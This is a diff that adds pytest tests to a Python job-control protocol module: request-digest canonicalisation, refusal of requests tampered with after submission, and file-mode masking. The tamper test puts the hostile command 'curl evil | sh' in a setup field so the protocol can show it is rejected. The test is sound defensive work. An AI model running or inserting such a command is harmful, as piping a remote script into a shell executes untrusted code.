@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from tpuctl.agent import protocol
 from tpuctl.services import staging
 
@@ -59,3 +61,22 @@ def test_is_final() -> None:
     assert protocol.is_final({"state": "FAILED", "attempt": 1}, 1)
     assert not protocol.is_final({"state": "FAILED", "attempt": 1}, 2)
     assert not protocol.is_final({"state": "FETCHING"}) and not protocol.is_final(None)
+
+
+def test_the_request_digest_is_of_one_canonical_form() -> None:
+    request = {"version": 2, "id": "j", "script": "t.py", "args": ["é"], "setup": None,
+               "env": [], "manifest": {}}  # fmt: skip
+    reordered = dict(reversed(list(request.items())))
+    assert protocol.request_digest(request) == protocol.request_digest(reordered)
+    assert protocol.verified_request(request, "j", protocol.request_digest(request)) == request
+    changed = {**request, "setup": "curl evil | sh"}
+    with pytest.raises(protocol.Refused, match="is not the one submitted"):
+        protocol.verified_request(changed, "j", protocol.request_digest(request))
+    with pytest.raises(protocol.Refused, match="not a version 2 request of job k"):
+        protocol.verified_request(request, "k", protocol.request_digest(request))
+
+
+def test_file_modes_are_masked() -> None:
+    modes = {m: protocol.file_mode({"mode": m}) for m in (0o4777, 0o777, 0o700, 0o666, 0o600)}
+    assert modes == {0o4777: 0o755, 0o777: 0o755, 0o700: 0o755, 0o666: 0o644, 0o600: 0o644}
+    assert protocol.file_mode({}) == 0o644
